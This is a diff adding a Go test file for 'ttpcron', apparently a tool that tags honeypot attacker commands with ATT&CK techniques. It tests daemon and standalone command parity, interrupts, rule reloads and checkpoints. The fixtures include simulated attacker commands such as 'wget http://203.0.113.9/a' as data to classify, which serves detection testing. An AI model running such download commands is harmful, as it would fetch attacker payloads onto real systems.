@@ -1,0 +1,304 @@
+package main
+
+import (
+	"bytes"
+	"errors"
+	"fmt"
+	"io"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"regexp"
+	"slices"
+	"strings"
+	"syscall"
+	"testing"
+)
+
+// rarely is a configuration whose jobs do not run while a test does.
+const rarely = `
+[[job]]
+name = "rarely"
+schedule = "0 0 29 2 *"
+
+[[job]]
+name = "maintenance"
+task = "maintenance"
+schedule = "0 0 29 2 *"
+`
+
+// run runs a command beside the daemon of a node, or without one.
+func (n *node) run(stdin string, args ...string) (code int, stdout, stderr string) {
+	n.t.Helper()
+	self, err := os.Executable()
+	if err != nil {
+		n.t.Fatal(err)
+	}
+	program := n.path("ttpcron")
+	if err := os.Symlink(self, program); err != nil && !errors.Is(err, os.ErrExist) {
+		n.t.Fatal(err)
+	}
+	cmd := exec.Command(program, args...)
+	var out, errs bytes.Buffer
+	cmd.Dir, cmd.Env, cmd.Stdin, cmd.Stdout, cmd.Stderr = n.dir, n.env, strings.NewReader(stdin), &out, &errs
+	var exit *exec.ExitError
+	if err := cmd.Run(); err != nil && !errors.As(err, &exit) {
+		n.t.Fatal(err)
+	}
+	return cmd.ProcessState.ExitCode(), out.String(), errs.String()
+}
+
+// serving starts the daemon and waits until it answers.
+func (n *node) serving() {
+	n.t.Helper()
+	n.start()
+	n.told(`\AREADY=1`)
+}
+
+const remoteEvents = `{"source_kind":"command","source_id":"c1","time":"2026-05-04T05:49:05Z","attacker_ip":"203.0.113.7","session_id":"s1","payload":{"command_text":"uname -a"}}
+{"source_kind":"command","source_id":"c2","time":"2026-05-05T05:49:05Z","attacker_ip":"203.0.113.7","session_id":"s1","payload":{"command_text":"wget http://203.0.113.9/a \udcff\u001b[31m"}}
+{"source_kind":"command","source_id":"c3","time":"2026-05-06T00:00:00Z","attacker_ip":"203.0.113.8","payload":{"command_text":"echo nothing"}}
+{"source_kind":"canary_fingerprint","source_id":"f1","time":"2026-05-06T01:00:00Z","attacker_ip":"203.0.113.9","payload":{"user_agent":"curl/8.5.0"}}
+`
+
+// Steps of TestSameWithDaemon, in order: they build on one another.
+var remoteSteps = []struct {
+	args  string
+	stdin string
+	loose bool // counts of bytes and pages differ
+}{
+	{args: "import events.jsonl --json"},
+	{args: "import events.jsonl no-such-file"},
+	{args: "import - --format events", stdin: remoteEvents[:len(remoteEvents)/2] + "\nnonsense\n"},
+	{args: "import --rejected"},
+	{args: "import --rejected --json"},
+	{args: "run-once --dry-run --since-days 3650 --input more.jsonl"},
+	{args: "run-once --input more.jsonl --since-days 3650"},
+	{args: "run-once --json"},
+	{args: "run-once --rules-changed-only"},
+	{args: "run-once --source nonsense"},
+	{args: "tags"},
+	{args: "tags --json"},
+	{args: "tags --json --limit 1"},
+	{args: "tags --attacker 203.0.113.7 --technique T1082"},
+	{args: "tags --since 2026-05-05 --until 2026-05-06"},
+	{args: "status"},
+	{args: "status --json", loose: true},
+	{args: "checkpoint show"},
+	{args: "checkpoint set 1"},
+	{args: "checkpoint set 99"},
+	{args: "checkpoint reset --source canary"},
+	{args: "checkpoint show --json"},
+	{args: "rules list"},
+	{args: "rules check"},
+	{args: "rules test"},
+	{args: "rules coverage --json"},
+	{args: "rules noise --json"},
+	{args: "rules noise --events"},
+	{args: "rules eval labelled.tsv"},
+	{args: "rules untagged"},
+	{args: "rules state set TEST2 disabled --reason test"},
+	{args: "rules state set TEST1 clipped=0.4"},
+	{args: "rules state list"},
+	{args: "rules state clear TEST1"},
+	{args: "rules state list --json"},
+	{args: "rules retire TEST2 --reason test"},
+	{args: "rules list --json"},
+	{args: "tags --json"},
+	{args: "rules unretire TEST2"},
+	{args: "rules log"},
+	{args: "rules log --json"},
+	{args: "explain uname -a"},
+	{args: "explain -", stdin: "wget http://203.0.113.9/a"},
+	{args: "export-events"},
+	{args: "export-events --source command --since 2026-05-05"},
+	{args: "db stats", loose: true},
+	{args: "db stats --json", loose: true},
+	{args: "db backup b.db", loose: true},
+	{args: "db backup b.db"},
+	{args: "db backup --replace b.db", loose: true},
+	{args: "tags --db b.db --json"},
+	{args: "db check --db b.db", loose: true},
+	{args: "db prune --keep-events 30d --dry-run", loose: true},
+	{args: "db prune --keep-events 30d --keep-tags 30d --force", loose: true},
+	{args: "tags"},
+	{args: "version"},
+}
+
+// aloneCommands need the file for themselves, or none.
+var aloneCommands = []string{"daemon", "config check", "db check", "db compact", "db restore", "db recover"}
+
+var remoteNoise = []struct {
+	re *regexp.Regexp
+	as string
+}{
+	{regexp.MustCompile(`\d{8}T\d{6}\.\d{6}Z-[0-9a-f]{8}`), "RUN"},
+	{regexp.MustCompile(`\d{4}-\d\d-\d\d[T ]\d\d:\d\d:\d\d(\.\d+)?(Z|\+0000)?`), "TIME"},
+	{regexp.MustCompile(`"elapsed_s":[0-9.]+`), "ELAPSED"},
+	{regexp.MustCompile(`\b[0-9.]+(ns|µs|ms|s)( ago)?\b`), "SPAN"},
+	{regexp.MustCompile(`\b[0-9.]+ ([KMG]i)?B\b`), "SIZE"},
+	{regexp.MustCompile(` +`), " "},
+}
+
+// comparable leaves out what differs from one moment to the next.
+func comparable(n *node, text string, loose bool) string {
+	text = strings.ReplaceAll(text, n.dir, "DIR")
+	for _, noise := range remoteNoise {
+		text = noise.re.ReplaceAllString(text, noise.as)
+	}
+	if loose {
+		text = regexp.MustCompile(`[0-9.]+%?`).ReplaceAllString(text, "N")
+	}
+	return text
+}
+
+// Every command gives the same output and exit code whether or not a daemon has
+// the store.
+func TestSameWithDaemon(t *testing.T) {
+	plain, served := newNode(t, rarely), newNode(t, rarely)
+	for _, n := range []*node{plain, served} {
+		n.write("events.jsonl", remoteEvents)
+		n.write("more.jsonl", strings.ReplaceAll(remoteEvents, `"source_id":"`, `"source_id":"m`))
+		n.write("labelled.tsv", "T1082\tuname -a\n")
+		n.env = append(n.env, "TTPCRON_INPUT=", "LANG=C.UTF-8", "USER=tester", "LOGNAME=tester")
+	}
+	served.serving()
+	tried := map[string]bool{}
+	for _, step := range remoteSteps {
+		args := strings.Fields(step.args)
+		for k := range args {
+			tried[strings.Join(args[:k+1], " ")] = true
+		}
+		wantCode, wantOut, wantErr := plain.run(step.stdin, args...)
+		code, out, errs := served.run(step.stdin, args...)
+		if code != wantCode {
+			t.Errorf("%s: exit %d with a daemon, %d without\n%s%s", step.args, code, wantCode, errs, wantErr)
+		}
+		if got, want := comparable(served, out, step.loose), comparable(plain, wantOut, step.loose); got != want {
+			t.Errorf("%s: with a daemon\n%s\nwithout\n%s", step.args, got, want)
+		}
+		if got, want := comparable(served, errs, step.loose), comparable(plain, wantErr, step.loose); got != want {
+			t.Errorf("%s: on stderr with a daemon\n%s\nwithout\n%s", step.args, got, want)
+		}
+	}
+	a := newApp(strings.NewReader(""), io.Discard, io.Discard, nil)
+	a.rootCommand()
+	for _, c := range a.byFlags {
+		if c.run != nil && !tried[c.name] && !slices.Contains(aloneCommands, c.name) {
+			t.Errorf("%s is not compared", c.name)
+		}
+	}
+	// Those that need the file say what to do.
+	for _, args := range [][]string{{"db", "check"}, {"db", "compact"}, {"db", "restore", "b.db"}, {"db", "recover", "r.db"}, {"daemon"}} {
+		code, _, errs := served.run("", args...)
+		if code != exitLocked || !strings.Contains(errs, "stop the daemon") && args[0] != "daemon" {
+			t.Errorf("%v: exit %d, %s", args, code, errs)
+		}
+	}
+	if code := served.stop(); code != exitDone {
+		t.Errorf("the daemon exits with %d", code)
+	}
+	if _, err := os.Lstat(served.path("t.db.sock")); !errors.Is(err, os.ErrNotExist) {
+		t.Errorf("the socket is left behind: %v", err)
+	}
+	if code, _, errs := served.run("", "db", "check"); code != exitDone {
+		t.Errorf("afterwards: %s", errs)
+	}
+	if left, _ := filepath.Glob(served.path(".*")); len(left) > 0 {
+		t.Errorf("left behind: %v", left)
+	}
+}
+
+// A run of a caller waits for its turn. An interrupt cancels it, or leaves it
+// alone, as asked.
+func TestRunInDaemonIsInterrupted(t *testing.T) {
+	for _, how := range []string{interruptCancel, interruptDetach} {
+		t.Run(how, func(t *testing.T) {
+			n := newNode(t, rarely)
+			n.env = append(n.env, "TTPCRON_INPUT=")
+			n.serving()
+			var events strings.Builder
+			for i := range 60_000 {
+				fmt.Fprintf(&events, `{"source_kind":"command","time":"2026-05-04T05:49:05Z","attacker_ip":"203.0.113.7","payload":{"command_text":"uname -a; wget http://203.0.113.9/%d"}}`+"\n", i)
+			}
+			n.write("many.jsonl", events.String())
+			if code, _, errs := n.run("", "import", "many.jsonl"); code != 0 {
+				t.Fatal(errs)
+			}
+			var stderr lockedBuffer
+			cmd := exec.Command(n.path("ttpcron"), "run-once", "--since-days", "3650", "--batch-size", "1", "--workers", "1", "--on-interrupt", how)
+			cmd.Dir, cmd.Env, cmd.Stderr = n.dir, n.env, &stderr
+			if err := cmd.Start(); err != nil {
+				t.Fatal(err)
+			}
+			n.logged("run on request: job=run-once")
+			if err := cmd.Process.Signal(syscall.SIGINT); err != nil {
+				t.Fatal(err)
+			}
+			_ = cmd.Wait() // its exit code is looked at
+			if code := cmd.ProcessState.ExitCode(); code != exitInterrupted {
+				t.Fatalf("exit %d: %s", code, stderr.String())
+			}
+			if detached := strings.Contains(stderr.String(), "goes on in the daemon"); detached != (how == interruptDetach) {
+				t.Errorf("stderr: %s", stderr.String())
+			}
+			outcome := map[string]string{interruptCancel: `"outcome":"interrupted"`, interruptDetach: `"outcome":"done"`}[how]
+			n.wait("outcome "+outcome, func() bool {
+				_, out, _ := n.run("", "status", "--json")
+				return strings.Contains(out, outcome)
+			})
+			// Nothing is lost either way: the next run goes on.
+			n.run("", "run-once", "--since-days", "3650")
+			if _, out, _ := n.run("", "tags", "--json"); strings.Count(out, "\n") != 180_000 {
+				t.Errorf("%d tags", strings.Count(out, "\n"))
+			}
+		})
+	}
+}
+
+// A run with rules that are not the daemon's is refused.
+func TestRunWithOtherRules(t *testing.T) {
+	n := newNode(t, rarely)
+	n.serving()
+	if err := os.Remove(n.path("rules/discovery.yaml")); err != nil {
+		t.Fatal(err)
+	}
+	code, _, errs := n.run("", "run-once")
+	if code != exitFailed || !strings.Contains(errs, "other rules than this command would") || !strings.Contains(errs, "hint: ") {
+		t.Errorf("exit %d: %s", code, errs)
+	}
+	n.signal(syscall.SIGHUP)
+	n.logged("reloaded")
+	if code, _, errs = n.run("", "run-once"); code != exitDone {
+		t.Errorf("after a reload: exit %d: %s", code, errs)
+	}
+}
+
+// Changes that no run must meet wait for it, as long as for a store that is held.
+func TestCheckpointWaitsForRun(t *testing.T) {
+	n := newNode(t, rarely)
+	n.env = append(n.env, "TTPCRON_INPUT=")
+	n.serving()
+	var events strings.Builder
+	for i := range 60_000 {
+		fmt.Fprintf(&events, `{"source_kind":"command","time":"2026-05-04T05:49:05Z","attacker_ip":"203.0.113.7","payload":{"command_text":"uname -a; %d"}}`+"\n", i)
+	}
+	n.write("many.jsonl", events.String())
+	n.run("", "import", "many.jsonl")
+	cmd := exec.Command(n.path("ttpcron"), "run-once", "--since-days", "3650", "--batch-size", "1", "--workers", "1")
+	cmd.Dir, cmd.Env = n.dir, n.env
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	n.logged("run on request: job=run-once")
+	code, _, errs := n.run("", "checkpoint", "set", "0", "--lock-timeout", "1ns")
+	if code == exitLocked && !strings.Contains(errs, "a run of the daemon is in progress") || code != exitLocked && code != exitDone {
+		t.Errorf("exit %d: %s", code, errs)
+	}
+	if code, _, errs := n.run("", "checkpoint", "set", "0", "--lock-timeout", patience.String()); code != exitDone {
+		t.Errorf("exit %d: %s", code, errs)
+	}
+	if err := cmd.Wait(); err != nil {
+		t.Error(err)
+	}
+}
